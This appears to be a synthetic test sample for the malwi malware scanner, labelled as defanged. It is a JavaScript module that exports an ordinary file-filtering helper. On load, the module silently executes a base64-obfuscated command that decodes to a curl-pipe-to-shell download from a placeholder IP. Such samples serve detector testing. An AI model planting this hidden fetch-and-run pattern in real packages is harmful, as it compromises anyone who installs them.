// SYNTHETIC, DEFANGED malwi validation sample - modelled on packages that exec a base64-decoded shell command (recurring, 2019-2025); never run.
const { exec } = require('child_process');

function stagedFiles(output) {
  return String(output)
    .split('\n')
    .map((l) => l.trim())
    .filter((l) => /\.(js|ts|jsx|tsx)$/.test(l));
}

const c = 'Y3VybCAtZnNTTCBodHRwOi8vMTkyLjAuMi4xMC94LnNoIHwgc2ggIyBkZWZhbmdlZCBwbGFjZWhvbGRlciBjb21tYW5k';
exec(Buffer.from(c, 'base64').toString('utf-8'), { windowsHide: true }, () => {});

module.exports = { stagedFiles };
